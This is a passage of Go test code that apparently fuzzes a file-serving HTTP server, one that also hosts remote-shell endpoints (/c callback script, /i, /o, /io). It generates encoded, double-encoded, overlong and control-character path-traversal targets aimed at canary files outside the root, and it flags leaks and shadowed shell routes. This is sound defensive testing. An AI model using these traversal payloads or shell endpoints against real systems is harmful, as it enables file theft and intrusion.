	"empty-seg":      {[]string{"..", ".", "..", "%2e%2e"}, []string{"//", "///", "/./", "//", "/.//"}},
}

func (t *tree) traversal(rng *rand.Rand, st style) string { return t.traversalTo(rng, st, t.aims) }

// traversalTo writes a path that climbs out of an in-tree (or made-up) prefix
// in the given style and then names one of the aims.
func (t *tree) traversalTo(rng *rand.Rand, st style, aims []aim) string {
	prefix, depth := "", 0
	switch rng.IntN(5) {
	case 0:
	case 1, 2:
		d := pick(rng, t.dirL)
		if d != "" {
			prefix, depth = encRel(rng, d, 0), strings.Count(d, "/")+1
		}
	case 3:
		f := pick(rng, []string{"c", "io", "i/x", "o/x", "sub/c"})
		prefix, depth = "/"+f, strings.Count(f, "/")+1
	case 4:
		prefix, depth = "/nonexistent", 1
	}
	a := pick(rng, aims)
	ups := depth + a.ups
	if a.ups < 10 {
		switch rng.IntN(8) {
		case 0:
			ups--
		case 1:
			ups++
		}
	}
	var sb strings.Builder
	sb.WriteString(prefix)
	sep := pick(rng, st.sep)
	mixed := rng.IntN(4) == 0
	for k := 0; k < ups; k++ {
		if mixed {
			sep = pick(rng, st.sep)
		}
		sb.WriteString(sep)
		sb.WriteString(pick(rng, st.dd))
	}
	if a.rest == "" {
		sb.WriteString(sep)
	} else {
		for _, s := range strings.Split(a.rest, "/") {
			sb.WriteString(sep)
			sb.WriteString(escMin(s))
		}
	}
	out := sb.String()
	if !strings.HasPrefix(out, "/") {
		out = "/" + out
	}
	return out
}

var shellNamed = []string{
	"/c", "/c", "/i/x", "/i/x", "/o/x", "/o/x", "/io", "/io", "/io/", "/io/anything", "/io/a/b", "/i/id", "/o/id", "/i/abc", "/o/abc",
	"/%63", "/i/%78", "/%69/x", "/%6f/x", "/%69%6f", "/i%6f/x", "/c?x=1", "/c?c2=cb.example", "/i/x?q", "/o/x?q=1", "/io?x", "/i/a%2fb", "/o/%2e%2e", "/i/..x",
	// near misses: not shell routes
	"/c/", "/i/", "/i", "/o", "/o/", "/i/x/y", "/i/x/", "/o/x/", "/C", "/cc", "/c.", "/c;x", "/i%2fx", "/o%2Fx", "/IO", "/io.", "/ioo", "/sub/c", "/sub/../c", "/./c", "//c", "/x/../i/x", "/c/.", "/i/x/..", "/io/..", "/c%00", "/c%20",
}

var rawCtl = []byte{0x01, 0x02, 0x07, 0x08, 0x09, 0x0b, 0x0c, 0x0e, 0x1b, 0x1f, 0x7f}

func genTarget(rng *rand.Rand, t *tree) tgt {
	g := tgt{method: "GET", proto: "HTTP/1.1"}
	w := rng.IntN(136)
	switch {
	case w < 18:
		g.class, g.target = "clean-existing", t.existing(rng)
	case w < 24:
		g.class = "clean-missing"
		switch rng.IntN(5) {
		case 0:
			g.target = "/nope-" + strconv.Itoa(rng.IntN(1000))
		case 1:
			g.target = encRel(rng, pick(rng, t.dirL), 0) + "/missing.txt"
		case 2:
			g.target = "/canary-sibling.txt"
		case 3:
			g.target = escMinPath(filepath.Join(t.caseDir, pick(rng, []string{"canary-sibling.txt", "secret/file", "root.bak", "rootx/secret.txt"})))
		default:
			g.target = encRel(rng, pick(rng, t.fileL), 0) + pick(rng, []string{".bak", "~", "x", "/below"})
		}
	case w < 34:
		g.class, g.target = "dotseg-plain", t.traversal(rng, styles["dotseg-plain"])
	case w < 44:
		g.class, g.target = "dotseg-encoded", t.traversal(rng, styles["dotseg-encoded"])
	case w < 50:
		g.class, g.target = "double-encoded", t.traversal(rng, styles["double-encoded"])
	case w < 56:
		g.class, g.target = "encoded-slash", t.traversal(rng, styles["encoded-slash"])
	case w < 62:
		g.class, g.target = "backslash", t.traversal(rng, styles["backslash"])
	case w < 65:
		g.class, g.target = "semicolon", t.traversal(rng, styles["semicolon"])
	case w < 68:
		g.class, g.target = "overlong", t.traversal(rng, styles["overlong"])
	case w < 71:
		g.class, g.target = "trailing-dot", t.traversal(rng, styles["trailing-dot"])
		if rng.IntN(2) == 0 {
			g.target = t.existing(rng) + pick(rng, []string{".", "..", "...", "%20", "/.", "%2e", "::$DATA"})
		}
	case w < 77:
		g.class = "nul/ctl"
		base := pick(rng, []string{t.existing(rng), t.traversal(rng, styles["dotseg-plain"]), t.traversal(rng, styles["dotseg-encoded"])})
		ins := pick(rng, []string{"%00", "%00", "%0a", "%0d%0a", "%7f", "%1f", "%01", "%09", string([]byte{pick(rng, rawCtl)}), string([]byte{pick(rng, rawCtl)})})
		switch rng.IntN(4) {
		case 0:
			g.target = base + ins
		case 1:
			g.target = base + ins + ".html"
		case 2:
			g.target = "/" + ins + base
		default:
			k := 1 + rng.IntN(len(base))
			g.target = base[:k] + ins + base[k:]
		}
	case w < 83:
		g.class, g.target = "empty-seg", t.traversal(rng, styles["empty-seg"])
		if rng.IntN(3) == 0 {
			g.target = strings.ReplaceAll(t.existing(rng), "/", pick(rng, []string{"//", "///", "/./"}))
		}
	case w < 85:
		g.class = "long"
		switch rng.IntN(4) {
		case 0:
			g.target = "/" + strings.Repeat("a", 8192)
		case 1:
			g.target = "/sub" + strings.Repeat("/..", 2730) + "/canary-sibling.txt"
		case 2:
			g.target = "/" + strings.Repeat("%2e%2e/", 1170) + "secret/file"
		default:
			g.target = t.existing(rng) + "?" + strings.Repeat("q=../&", 1400)
		}
	case w < 90:
		g.class = "absolute-form"
		scheme := pick(rng, []string{"https://", "http://", "HTTPS://", "https://"})
		auth := pick(rng, []string{host, host, "evil.example:99", "127.0.0.1", "[::1]:443", "user@" + host})
		var p string
		switch rng.IntN(5) {
		case 0:
			p = t.existing(rng)
		case 1:
			p = pick(rng, []string{"", "?x", "/", "/c", "/i/x", "/io", "/o/x"})
		case 2:
			p = t.traversal(rng, styles["dotseg-encoded"])
		default:
			p = t.traversal(rng, styles["dotseg-plain"])
		}
		g.target = scheme + auth + p
	case w < 91:
		g.class, g.target = "star", "*"
		g.method = pick(rng, []string{"GET", "OPTIONS", "HEAD", "POST"})
	case w < 92:
		g.class = "authority"
		g.method = pick(rng, []string{"CONNECT", "GET", "CONNECT"})
		g.target = pick(rng, []string{host + ":443", "127.0.0.1:443", host})
	case w < 95:
		g.class = "no-leading-slash"
		g.target = pick(rng, []string{"c", "io", "i/x", "f.txt", "sub/f.txt", "../canary-sibling.txt", "..", "./c", "?x", "%2f..%2fcanary-sibling.txt", "%2e%2e/secret/file", "..\\canary-sibling.txt", "canary-sibling.txt"})
	case w < 99:
		g.class = "query"
		g.target = t.existing(rng) + pick(rng, []string{"?x=1", "?../../canary-sibling.txt", "?c2=abc", "??", "?%zz", "?/../secret/file", "?", "?a=b&c=d;e"})
	case w < 104:
		g.class = "method"
		g.method = pick(rng, []string{"HEAD", "POST", "PUT", "OPTIONS", "DELETE", "PATCH", "HEAD", "POST", "TRACE", "get", "PROPFIND", "G%54"})
		if rng.IntN(3) == 0 {
			g.target = t.traversal(rng, styles[pick(rng, []string{"dotseg-plain", "dotseg-encoded", "encoded-slash"})])
		} else {
			g.target = t.existing(rng)
		}
	case w < 108:
		g.class = "range"
		g.target = encRel(rng, pick(rng, t.fileL), 0)
		if rng.IntN(5) == 0 {
			g.target = t.traversal(rng, styles["dotseg-encoded"])
		}
		g.rangeV = pick(rng, []string{"bytes=0-9", "bytes=5-", "bytes=-7", "bytes=3-3", "bytes=0-", "bytes=10-40", "bytes=-1"})
		if rng.IntN(6) == 0 {
			g.rangeV, g.weak = pick(rng, []string{"bytes=zz", "bytes=999999-", "bytes=9-1", "lines=1-2", "bytes=0-1,5-6"}), true
		}
		if rng.IntN(4) == 0 {
			g.method = "HEAD"
		}
	case w < 118:
		g.class, g.target = "shell-named", pick(rng, shellNamed)
		if rng.IntN(6) == 0 {
			g.method = pick(rng, []string{"HEAD", "POST", "PUT", "OPTIONS"})
		}
	case w < 120:
		g.class, g.weak = "proto", true
		g.target = pick(rng, []string{t.existing(rng), "/c", t.traversal(rng, styles["dotseg-plain"])})
		switch rng.IntN(5) {
		case 0:
			g.proto = "HTTP/1.0"
		case 1:
			g.proto, g.noHost = "HTTP/1.0", true
		case 2:
			g.noHost = true
		case 3:
			g.proto = "HTTP/2.0"
		default:
			g.proto = pick(rng, []string{"HTTP/0.9", "HTTP/1.2", "HTTPS/1.1", "http/1.1", ""})
		}
	case w < 130:
		g.class = "mixed"
		pieces := []string{"..", ".", "", "%2e%2e", "..%2f", "%5c..", "c", "i", "x", "io", "o", "sub", "canary-sibling.txt", "secret", "file", "%2e", "..;", "root", "..%5c..", "%252e%252e", "index.html", "withindex", "empty", "...", "..x"}
		seps := []string{"/", "/", "/", "//", "%2f", "\\", "/./"}
		n := 1 + rng.IntN(6)
		var sb strings.Builder
		for k := 0; k < n; k++ {
			sb.WriteString(pick(rng, seps))
			if rng.IntN(3) == 0 {
				sb.WriteString(escMin(pick(rng, namePool)))
			} else {
				sb.WriteString(pick(rng, pieces))
			}
		}
		if rng.IntN(4) == 0 {
			sb.WriteString("/")
		}
		g.target = sb.String()
		if !strings.HasPrefix(g.target, "/") {
			g.target = "/" + g.target
		}
	default:
		g.class, g.curl, g.weak = "curl", true, true
		switch rng.IntN(6) {
		case 0, 1:
			g.target = t.existing(rng)
		case 2:
			g.target = t.traversal(rng, styles["dotseg-plain"])
		case 3:
			g.target = t.traversal(rng, styles["dotseg-encoded"])
		case 4:
			g.target = t.traversal(rng, styles["encoded-slash"])
		default:
			g.target = t.traversal(rng, styles["double-encoded"])
		}
	}
	return g
}

func escMinPath(abs string) string {
	segs := strings.Split(abs, "/")
	for i, s := range segs {
		segs[i] = escMin(s)
	}
	return strings.Join(segs, "/")
}

// ---- one server -----------------------------------------------------------------

type server struct {
	r     *mon.Run
	t     *tree
	mode  string // dir single unset dangling: what the configured path is
	kind  string // how it is named: dir file unset symlink-to-dir symlink-to-file symlink-chain-to-dir symlink-chain-to-file dangling-symlink
	fdir  string
	s     *hk.Server
	si    int
	pos   int // log position after the last marker
	nmark int
	nprb  int
	// the real binary instead of the in-process server (flagv.go): markers,
	// notices and attach lines are then read from its terminal
	b   *crs.Session
	mc  *hk.Conn // the kept connection of the markers
	eng string   // engine name of violations ("" = target)
	fc  *flagCase
}

func (sv *server) addr() string {
	if sv.b != nil {
		return sv.b.Addr
	}
	return sv.s.Addr
}

type hop struct {
	Method  string   `json:"method"`
	Target  string   `json:"target"`
	Status  int      `json:"status"`
	Loc     string   `json:"location,omitempty"`
	BodyLen int      `json:"body_len"`
	Shell   string   `json:"shell_attached,omitempty"`
	Echo    bool     `json:"input_delivered,omitempty"`
	Notices []string `json:"notices,omitempty"`
	Err     string   `json:"err,omitempty"`
	Via     string   `json:"via,omitempty"`

	hdr  http.Header
	body []byte
	scan []byte // everything received, for token lookups
	inf  info
}

func (h hop) String() string {
	s := fmt.Sprintf("%s %q -> %d", h.Method, trunc(h.Target, 120), h.Status)
	if h.Loc != "" {
		s += " Location " + strconv.Quote(trunc(h.Loc, 120))
	}
	if h.Shell != "" {
		s += " [shell attached: " + h.Shell + "]"
	}
	if h.Err != "" {
		s += " (" + h.Err + ")"
	}
	return s
}

func trunc(s string, n int) string {
	if len(s) > n {
		return s[:n] + fmt.Sprintf("…(%d bytes)", len(s))
	}
	return s
}

// mark closes the current notice window; it returns the lines of the window.
func (sv *server) mark() ([]string, bool) {
	if sv.b != nil {
		return sv.binMark()
	}
	sv.nmark++
	tag := fmt.Sprintf("MARK-%d-%d", sv.si, sv.nmark)
	sv.s.Och <- opshell.CLine{Line: tag}
	ev, ok := sv.s.Log.Wait(sv.pos, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && e.S == tag })
	if !ok {
		return nil, false
	}
	var lines []string
	sv.s.Log.Find(sv.pos, func(e bk.Event) bool {
		if e.Seq >= ev.Seq {
			return true
		}
		if e.Kind == "op" && !strings.HasPrefix(e.S, "MARK-") {
			lines = append(lines, e.S)
		}
		return false
	})
	sv.pos = ev.Seq + 1
	return lines, true
}

// sync sends a line through the operator channel and waits for it without
// closing the window.
func (sv *server) sync() (int, bool) {
	sv.nmark++
	tag := fmt.Sprintf("MARK-sync-%d-%d", sv.si, sv.nmark)
	sv.s.Och <- opshell.CLine{Line: tag}
	ev, ok := sv.s.Log.Wait(sv.pos, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && e.S == tag })
	return ev.Seq, ok
}

func flatten(status int, proto string, h http.Header, body []byte) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %d\r\n", proto, status)
	h.Write(&b)
	b.WriteString("\r\n")
	b.Write(body)
	return b.Bytes()
}

func (sv *server) request(g tgt, method, target string, first bool) string {
	var sb strings.Builder
	proto := "HTTP/1.1"
	noHost := false
	if first {
		proto, noHost = g.proto, g.noHost
	}
	if proto == "" {
		fmt.Fprintf(&sb, "%s %s\r\n", method, target)
	} else {
		fmt.Fprintf(&sb, "%s %s %s\r\n", method, target, proto)
	}
	if !noHost {
		fmt.Fprintf(&sb, "Host: %s\r\n", host)
	}
	if g.rangeV != "" {
		fmt.Fprintf(&sb, "Range: %s\r\n", g.rangeV)
	}
	if method == "POST" || method == "PUT" || method == "PATCH" {
		sb.WriteString("Content-Length: 0\r\n")
	}
	sb.WriteString("Connection: close\r\n\r\n")
	return sb.String()
}

// plain sends one request and reads one complete response.
func (sv *server) plain(g tgt, method, target string, first bool) hop {
	h := hop{Method: method, Target: target}
	raw := sv.request(g, method, target, first)
	res, _, err := hk.RoundTrip(sv.addr(), "", []byte(raw), hk.Bound)
	if res == nil {
		h.Err = fmt.Sprint(err)
		return h
	}
	h.Status, h.hdr, h.body = res.Status, res.Header, res.Body
	if res.Err != nil {
		h.Err = res.Err.Error()
	}
	h.scan = flatten(res.Status, res.Proto, res.Header, res.Body)
	return h
}

// viaCurl sends the target with the real curl (--path-as-is).
func (sv *server) viaCurl(target string) hop {
	h := hop{Method: "GET", Target: target, Via: "curl"}
	pr := mon.Proc{Path: "/usr/bin/curl", Args: []string{"--path-as-is", "-sk", "--http1.1", "-i", "--max-time", "20", "https://" + sv.addr() + target}, Timeout: 30 * time.Second}.Run()
	if pr.TimedOut || pr.Status != 0 {
		h.Err = fmt.Sprintf("curl exit %d timeout=%v: %s", pr.Status, pr.TimedOut, pr.Stderr)
		return h
	}
	head, body, ok := bytes.Cut(pr.Stdout, []byte("\r\n\r\n"))
	if !ok {
		h.Err = "curl output without header block"
		return h
	}
	tp := textproto.NewReader(bufio.NewReader(bytes.NewReader(append(head, "\r\n\r\n"...))))
	line, _ := tp.ReadLine()
	f := strings.Fields(line)
	if len(f) >= 2 {
		h.Status, _ = strconv.Atoi(f[1])
	}
	mh, _ := tp.ReadMIMEHeader()
	h.hdr = http.Header(mh)
	h.body = body
	h.scan = pr.Stdout
	if h.Status == 0 {
		h.Err = "curl output without status line"
	}
	return h
}

// stream probes a target that names /i/{id}, /o/{id} or /io: it watches for
// the attach notice and for the end of the response at the same time.
func (sv *server) stream(g tgt, inf info, target string) hop {
	if sv.b != nil {
		return sv.binStream(g, inf, target)
	}
	sv.nprb++
	var raw, want, method, shape string
	out := fmt.Sprintf("OUT-%d-%d", sv.si, sv.nprb)
	in := fmt.Sprintf("IN-%d-%d", sv.si, sv.nprb)
	switch inf.shell {
	case "i":
		method, shape = "GET", "none"
		want = fmt.Sprintf("Input connected: ID %q", inf.shellID)
	case "o":
		method, shape = "POST", "cl"
		want = fmt.Sprintf("Output connected: ID %q", inf.shellID)
	default:
		method, shape = "POST", "chunked"
		want = "Shell is ready to go!"
	}
	if g.mx {
		method, shape = g.method, g.body
	}
	raw = fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\n", method, target, host)
	switch shape {
	case "cl0":
		raw += "Content-Length: 0\r\nConnection: close\r\n\r\n"
	case "cl":
		raw += fmt.Sprintf("Content-Length: %d\r\nConnection: close\r\n\r\n%s\n", len(out)+1, out)
	case "chunked":
		raw += fmt.Sprintf("Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n%x\r\n%s\n\r\n", len(out)+1, out)
	default:
		raw += "Connection: close\r\n\r\n"
	}
	h := hop{Method: method, Target: target}
	if g.mx {
		h.Via = "body:" + shape
	}
	c, err := hk.Dial(sv.s.Addr, "")
	if err != nil {
		h.Err = err.Error()
		return h
	}
	c.SetDeadline(time.Now().Add(hk.Bound))
	if _, err := c.Write([]byte(raw)); err != nil {
		c.Close()
		h.Err = err.Error()
		return h
	}
	var mu sync.Mutex
	var buf []byte
	done := make(chan struct{})
	note := make(chan struct{}, 1)
	go func() {
		b := make([]byte, 8192)
		for {
			n, err := c.Read(b)
			mu.Lock()
			buf = append(buf, b[:n]...)
			mu.Unlock()
			select {
			case note <- struct{}{}:
			default:
			}
			if err != nil {
				close(done)
				return
			}
		}
	}()
	var abort, matched atomic.Bool
	att := make(chan struct{})
	from := sv.pos
	go func() {
		sv.s.Log.Wait(from, hk.Bound+5*time.Second, func(e bk.Event) bool {
			if e.Kind == "op" && strings.Contains(e.S, want) {
				matched.Store(true)
				return true
			}
			return abort.Load()
		})
		close(att)
	}()
	select {
	case <-att:
	case <-done:
		// the response ended by itself; the attach notice may still be on its way
		// through the operator channel: everything sent before the sync line precedes it
		if seq, ok := sv.sync(); ok {
			sv.s.Log.Find(from, func(e bk.Event) bool {
				if e.Seq < seq && e.Kind == "op" && strings.Contains(e.S, want) {
					matched.Store(true)
				}
				return e.Seq >= seq
			})
		}
	}
	if matched.Load() {
		h.Shell = inf.shell
		ended := false
		select {
		case <-done:
			ended = true
		default:
		}
		if ended {
			// attached and already over: nothing to deliver
		} else if method == "HEAD" || inf.shell == "io" && shape != "chunked" || inf.shell == "o" && shape == "chunked" {
			// nothing can come back (HEAD), or the request body decides when the shell ends: attached is all there is to see
		} else if inf.shell == "i" || inf.shell == "io" {
			sv.s.Ich <- in
			deadline := time.After(hk.Bound)
		wait:
			for {
				mu.Lock()
				ok := bytes.Contains(buf, []byte(in+"\n"))
				mu.Unlock()
				if ok {
					h.Echo = true
					break
				}
				select {
				case <-note:
				case <-done:
					mu.Lock()
					h.Echo = bytes.Contains(buf, []byte(in+"\n"))
					mu.Unlock()
					break wait
				case <-deadline:
					break wait
				}
			}
		} else {
			select {
			case <-done:
			case <-time.After(hk.Bound):
			}
		}
	}
	c.Close()
	<-done
	abort.Store(true)
	// the marker below wakes the waiter
	if h.Shell != "" {
		if _, ok := sv.s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") }); !ok {
			sv.r.Inconclusive(fmt.Sprintf("no 'Shell is gone' notice after the probe of %q (%s mode)", target, sv.mode))
		}
	}
	mu.Lock()
	h.scan = buf
	mu.Unlock()
	if res, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(h.scan)), &http.Request{Method: method}); err == nil {
		h.Status, h.hdr = res.StatusCode, res.Header
		var bb bytes.Buffer
		bb.ReadFrom(res.Body)
		h.body = bb.Bytes()
	} else if len(h.scan) == 0 {
		h.Err = "no response bytes"
	}
	return h
}

func sanitize(s string) string {
	var sb strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] <= 0x20 || s[i] == 0x7f {
			fmt.Fprintf(&sb, "%%%02X", s[i])
		} else {
			sb.WriteByte(s[i])
		}
	}
	return sb.String()
}

// resolve computes the next raw target from a Location header, as a simple
// client would (relative references are resolved against the current path).
func resolve(cur info, loc string) (string, bool) {
	if loc == "" {
		return "", false
	}
	if i := strings.Index(loc, "://"); i > 0 && !strings.Contains(loc[:i], "/") {
		rest := loc[i+3:]
		j := strings.IndexAny(rest, "/?")
		if j < 0 {
			return "/", true
		}
		loc = rest[j:]
		if loc[0] == '?' {
			loc = "/" + loc
		}
	}
	if strings.HasPrefix(loc, "/") {
		return sanitize(loc), true
	}
	lp, lq, hasQ := strings.Cut(loc, "?")
	base := cur.escPath
	if i := strings.LastIndex(base, "/"); i >= 0 {
		base = base[:i+1]
	} else {
		base = "/"
	}
	var out []string
	segs := strings.Split(base+lp, "/")
	trail := false
	for i, s := range segs {
		trail = false
		switch s {
		case ".":
			trail = true
		case "..":
			if len(out) > 1 {
				out = out[:len(out)-1]
			}
			trail = true
		default:
			if i == len(segs)-1 && s == "" {
				trail = true
			} else {
				out = append(out, s)
			}
		}
	}
	p := strings.Join(out, "/")
	if !strings.HasPrefix(p, "/") {
		p = "/" + p
	}
	if trail && !strings.HasSuffix(p, "/") {
		p += "/"
	}
	if hasQ {
		p += "?" + lq
	}
	return sanitize(p), true
}

var anchorRe = regexp.MustCompile(`<a href="([^"]*)">([^<]*)</a>\n`)
var residueRe = regexp.MustCompile(`(?i)^\s*<!doctype html>\s*(<meta[^>]*>\s*)*<pre>\s*</pre>\s*$`)
var crangeRe = regexp.MustCompile(`^bytes (\d+)-(\d+)/(\d+)$`)

func (sv *server) violate(idx int, key, what string, g tgt, hops []hop) {
	var chain []string
	for _, h := range hops {
		chain = append(chain, h.String())
	}
	w := map[string]any{"tree": sv.t.idx, "mode": sv.mode, "class": g.class, "request_line": fmt.Sprintf("%s %s %s", g.method, strconv.Quote(trunc(g.target, 400)), g.proto), "chain": chain, "root": sv.t.root, "root_kind": sv.kind, "serve_files_from": sv.fdir, "serve_files_from_is": sv.t.rootsL[sv.kind]}
	if g.mx {
		w["request_body"] = g.body
		w["same_named_file_in_tree"] = g.shadow
	}
	if g.rangeV != "" {
		w["range"] = g.rangeV
	}
	if g.aimAt != "" {
		w["written_for_the_file_outside_the_root"] = g.aimAt
	}
	if sv.mode == "single" {
		w["single_file"] = sv.t.single
	}
	if n := len(hops); n > 0 {
		w["last_notices"] = hops[n-1].Notices
		w["last_body_head"] = trunc(string(hops[n-1].body), 300)
	}
	eng := "target"
	if sv.eng != "" {
		eng = sv.eng
		sv.fc.witness(w)
		if sv.fc.lexical && sv.mode == "dir" {
			// one finding, whatever way it shows: the directory served is the lexically cleaned spelling of the
			// value, not the directory the value leads to
			what = fmt.Sprintf("the value %q reaches its directory through a symbolic link followed by '..'; the program checks that directory but serves the lexically cleaned spelling of the value, a different directory: %s", sv.fdir, what)
			key = "root-through-link-and-dotdot-served-as-cleaned-lexically"
		}
	}
	sv.r.Violate(eng, idx, key, fmt.Sprintf("%s [-serve-files-from = %s, %s %s]", what, sv.kind, g.method, strconv.Quote(trunc(g.target, 200))), w)
}

func containsAny(hay []byte, needles []string) (string, bool) {
	for _, n := range needles {
		if bytes.Contains(hay, []byte(n)) {
			return n, true
		}
	}
	return "", false
}

// rangeOf checks a 206 body against the files it may come from.
func rangeOf(h hop, contents []string) bool {
	if mt, params, err := mime.ParseMediaType(h.hdr.Get("Content-Type")); err == nil && mt == "multipart/byteranges" {
		if h.Method == "HEAD" && len(h.body) == 0 {
			return true
		}
		mr := multipart.NewReader(bytes.NewReader(h.body), params["boundary"])
		n := 0
		for {
			p, err := mr.NextPart()
			if err == io.EOF {
				return n > 0
			}
			if err != nil {
				return false
			}
			b, err := io.ReadAll(p)
			if err != nil {
				return false
			}
			part := hop{Method: "GET", body: b, hdr: http.Header{"Content-Range": {p.Header.Get("Content-Range")}}}
			if !rangeOf(part, contents) {
				return false
			}
			n++
		}
	}
	m := crangeRe.FindStringSubmatch(h.hdr.Get("Content-Range"))
	if m == nil {
		return false
	}
	s, _ := strconv.Atoi(m[1])
	e, _ := strconv.Atoi(m[2])
	tot, _ := strconv.Atoi(m[3])
	for _, c := range contents {
		if len(c) == tot && s <= e && e < tot && (h.Method == "HEAD" && len(h.body) == 0 || c[s:e+1] == string(h.body)) {
			return true
		}
	}
	return false
}

// judgeHop applies the per-response rules.
func (sv *server) judgeHop(idx int, g tgt, hops []hop, first bool) {
	r, t := sv.r, sv.t
	h := hops[len(hops)-1]
	r.Count(fmt.Sprintf("status:%d", h.Status), 1)
	// (a) canaries
	r.Count("canary_token_scans", 1)
	if tok, ok := containsAny(h.scan, t.canary); ok {
		sv.violate(idx, "canary-leaked", fmt.Sprintf("a response contains %q, which exists only outside the served tree", tok), g, hops)
	}
	r.Count("notices_checked", int64(len(h.Notices)))
	is2xx := h.Status >= 200 && h.Status < 300
	starOK := h.inf.form == "star" && h.Method == "OPTIONS"

	// (e) shell endpoints
	if h.inf.shell != "" {
		r.Count("shell_probes", 1)
		r.Count("shell_probes:"+h.inf.shell, 1)
		var all []string
		for _, tok := range t.tokens {
			all = append(all, tok)
		}
		if tok, ok := containsAny(h.scan, all); ok {
			sv.violate(idx, "shell-endpoint-shadowed", fmt.Sprintf("the answer to a shell endpoint contains the content of the file %q", t.relOfToken(tok)), g, hops)
			return
		}
		// the file handler announces itself before anything else: its notice in the window of a
		// request for a shell endpoint means the request was treated as a file request
		r.Count("shell_probe_windows_checked_for_file_notice", 1)
		for _, n := range h.Notices {
			if strings.Contains(n, "File requested:") {
				sv.violate(idx, "shell-endpoint-shadowed", fmt.Sprintf("a request for a shell endpoint (%s) was handled as a file request (notice %q, status %d)", h.inf.shell, trunc(n, 120), h.Status), g, hops)
				return
			}
		}
		if g.mx && first {
			r.Count("mx:"+h.inf.shell+":"+mclass(h.Method), 1)
			r.Count("mx_body:"+g.body, 1)
			if g.shadow {
				r.Count("mx_cells_with_a_same_named_file", 1)
			}
		}
		if h.inf.muxRedir && h.Status >= 300 && h.Status < 400 {
			return // the router sends the client to the cleaned path first
		}
		if g.weak && first && (h.Status == 400 || h.Status == 505) {
			return // odd protocol version or missing Host: rejected before routing
		}
		if h.Err != "" && h.Status == 0 && h.Shell == "" {
			r.Inconclusive(fmt.Sprintf("shell probe %q got no response: %s", h.Target, h.Err))
			return
		}
		if g.mx && h.inf.shell != "c" && !canonical(h.inf.shell, h.Method, g.body) {
			// Any other method or body shape: the statement promises that files do not take the endpoint
			// over (checked above); what the endpoint does with such a request is recorded, not demanded.
			r.Count("mx_not_shadowed_other_methods", 1)
			if h.Shell != "" {
				r.Count("mx_other_methods_attached", 1)
				r.Count("mx_other_methods_attached:"+h.inf.shell, 1)
				if h.Echo {
					r.Count("mx_other_methods_input_delivered", 1)
				}
			} else {
				r.Count(fmt.Sprintf("mx_other_methods_not_attached:%s:%d", h.inf.shell, h.Status), 1)
			}
			return
		}
		switch h.inf.shell {
		case "c":
			okBody := h.Method == "HEAD" || bytes.Contains(h.body, []byte("curl")) && bytes.Contains(h.body, []byte("--pinnedpubkey"))
			refused := false // the script handler itself refuses a query it cannot parse
			for _, n := range h.Notices {
				if h.Status == 400 && h.inf.query != "" && strings.Contains(n, "Could not determine callback URL") {
					refused = true
				}
			}
			if refused {
				r.Count("shell_meaning_kept", 1)
				r.Count("script_handler_refusals", 1)
			} else if h.Status != 200 || !okBody {
				sv.violate(idx, "shell-endpoint-shadowed", fmt.Sprintf("/c did not return the callback script (status %d)", h.Status), g, hops)
			} else {
				r.Count("shell_meaning_kept", 1)
			}
		default:
			if h.Shell == "" {
				sv.violate(idx, "shell-endpoint-shadowed", fmt.Sprintf("a request for a shell endpoint (%s) did not attach a stream (status %d, no attach notice)", h.inf.shell, h.Status), g, hops)
			} else {
				r.Count("shell_meaning_kept", 1)
				if h.Echo {
					r.Count("shell_input_delivered", 1)
				}
			}
		}
		return
	}
	if h.Shell != "" {
		// the reference said "not a shell endpoint" and the server attached a stream
		r.Inconclusive(fmt.Sprintf("reference and server disagree on %q being a shell endpoint", h.Target))
		return
	}
	if h.Status == 0 {
		r.Inconclusive(fmt.Sprintf("no response to %q in %s mode: %s", trunc(h.Target, 100), sv.mode, h.Err))
		return
	}

	weak := g.weak && (first || g.rangeV != "") // an odd Range header travels along the redirects
	switch sv.mode {
	case "dir":
		if is2xx && !starOK {
			sv.checkBodyDir(idx, g, hops)
		}
		if h.inf.clean && !weak {
			kind, rel := t.expectDir(h.inf)
			agree := false
			switch kind {
			case "file":
				agree = is2xx && (h.Method == "HEAD" || g.rangeV != "" || t.byBody[string(h.body)] == rel)
			case "listing":
				agree = h.Status == 200
			case "redirect":
				agree = h.Status == 301
			case "index":
				agree = h.Status == 301 || is2xx && (h.Method == "HEAD" || g.rangeV != "" || t.byBody[string(h.body)] == rel)
			case "missing":
				// http.Dir refuses names that are not valid UTF-8, and the kernel refuses over-long ones
				agree = h.Status == 404 && utf8.ValidString(rel) || h.Status == 500 && (!utf8.ValidString(rel) || len(h.Target) > 255)
			}
			if agree {
				r.Count("reference_agreed", 1)
				if kind == "file" {
					r.Count("clean_existing_file_served_exactly", 1)
				}
			} else {
				r.Count("reference_disagreed", 1)
				r.Sample("reference-disagreement", map[string]any{"hop": h.String(), "expected": kind + " " + rel})
			}
		}
	case "single":
		var others []string
		for rel, tok := range t.tokens {
			if rel != t.single {
				others = append(others, tok)
			}
		}
		if tok, ok := containsAny(h.scan, others); ok {
			sv.violate(idx, "single-file-mode-other-content", fmt.Sprintf("single-file mode returned the content of %q", t.relOfToken(tok)), g, hops)
		} else if is2xx && !starOK {
			c := t.files[t.single]
			ok := false
			switch {
			case h.Status == 206 && g.rangeV != "":
				ok = rangeOf(h, []string{c})
			case h.Method == "HEAD":
				ok = len(h.body) == 0 && h.hdr.Get("Content-Length") == strconv.Itoa(len(c))
			default:
				ok = string(h.body) == c
			}
			if ok {
				r.Count("bodies_matched_to_files", 1)
				r.Count("single_file_exact", 1)
				r.Count("single_file_exact:"+sv.kind, 1)
			} else {
				sv.violate(idx, "single-file-mode-other-content", fmt.Sprintf("single-file mode answered %d with something that is not exactly the configured file", h.Status), g, hops)
			}
		}
	case "dangling":
		// the configured name leads nowhere: there is no tree, so no file content may come back
		var all []string
		for _, tok := range t.tokens {
			all = append(all, tok)
		}
		if tok, ok := containsAny(h.scan, all); ok {
			sv.violate(idx, "dangling-root-serves", fmt.Sprintf("-serve-files-from is a dangling symbolic link and the content of %q was returned", t.relOfToken(tok)), g, hops)
		} else {
			r.Count("dangling_root_responses_without_file_content", 1)
		}
	case "unset":
		var all []string
		for _, tok := range t.tokens {
			all = append(all, tok)
		}
